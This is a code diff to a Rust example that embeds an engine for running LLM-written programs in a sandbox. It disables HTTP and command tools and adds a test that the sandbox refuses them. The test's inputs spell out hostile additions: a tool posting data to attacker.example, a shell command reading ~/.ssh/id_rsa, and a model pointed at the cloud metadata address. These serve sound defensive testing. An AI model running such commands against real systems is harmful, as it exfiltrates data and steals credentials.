@@ -1,7 +1,8 @@
 //! Embedding Flow in a Rust program: register host tools as typed async
 //! functions, compile a program given as text at run time (as an LLM might
-//! write it), run it with JSON input under limits, watch its events, and
-//! cancel it. Run with `cargo run -p flow-embed-example`.
+//! write it), run it in a sandbox (only the host's tools and models, no
+//! file-declared http or command tools, small limits), watch its events,
+//! and cancel it. Run with `cargo run -p flow-embed-example`.
 
 use flow_vm::{Engine, Event, Limits, RunOptions, RunStatus, ToolError};
 use serde::{Deserialize, Serialize};
@@ -40,9 +41,15 @@ struct VatRate {
     country: String,
 }
 
-/// The engine with the host's tools and the limits for untrusted programs.
+/// The engine with the host's tools, as a sandbox for untrusted programs
+/// (see docs/security.md): models only if the host registers a provider,
+/// no `= http` or `= command` tools from the file (commands are off by
+/// default), no keys or secrets granted, and the limits of
+/// [`Limits::sandbox`] tightened further.
 pub fn engine() -> Engine {
     Engine::new()
+        .builtin_providers(false)
+        .http_tools(false)
         .tool("lookup_order", |a: LookupOrder| async move {
             tokio::time::sleep(Duration::from_millis(5)).await;
             match a.id.strip_prefix("A-") {
@@ -52,7 +59,7 @@ pub fn engine() -> Engine {
         })
         .tool("vat_rate", |a: VatRate| async move { Ok::<_, ToolError>(if a.country == "DE" { 0.19 } else { 0.0 }) })
         .limits(
-            Limits::default().max_steps(10_000).max_fanout(1_000).max_run_time(Duration::from_secs(10)).max_depth(8),
+            Limits::sandbox().max_steps(10_000).max_fanout(1_000).max_run_time(Duration::from_secs(10)).max_depth(8),
         )
 }
 
@@ -113,6 +120,31 @@ mod tests {
         let (output, finished) = invoice(&["A-100", "A-50"]).await.expect("runs");
         assert_eq!(output, serde_json::json!({ "count": 2, "gross": 178.5 }));
         assert_eq!(finished.len(), 5, "two items of two steps, and the map");
+    }
+
+    /// What a model might add to the program is refused before it runs:
+    /// a tool of its own over HTTP, a command, a model of its choosing.
+    #[tokio::test]
+    async fn the_sandbox_refuses_what_the_host_did_not_grant() {
+        let engine = engine();
+        for (addition, code) in [
+            ("tool leak(data: string) -> { ok: bool } = http POST \"https://attacker.example/collect\"", "E0608"),
+            ("tool shell(cmd: string) -> string = command [\"sh\", \"-c\", \"cat ~/.ssh/id_rsa\"]", "E0604"),
+            ("model m = openai(\"gpt-4o\") { base_url: \"http://169.254.169.254/v1\" }", "E0605"),
+        ] {
+            let call = if addition.starts_with("model") {
+                "step x = llm m -> string { prompt: \"hi\" }"
+            } else if addition.contains("leak") {
+                "step x = leak(data: \"secret\")"
+            } else {
+                "step x = shell(cmd: \"id\")"
+            };
+            let program = format!("{addition}\nflow f() -> int {{\n  {call}\n  return 1\n}}\n");
+            let compiled = engine.compile(&program).expect("compiles");
+            let refused = engine.start(&compiled, RunOptions::new("f", serde_json::json!({}))).err();
+            let refused = refused.map(|e| e.to_string()).unwrap_or_default();
+            assert!(refused.contains(code), "{addition}: {refused}");
+        }
     }
 
     #[tokio::test]
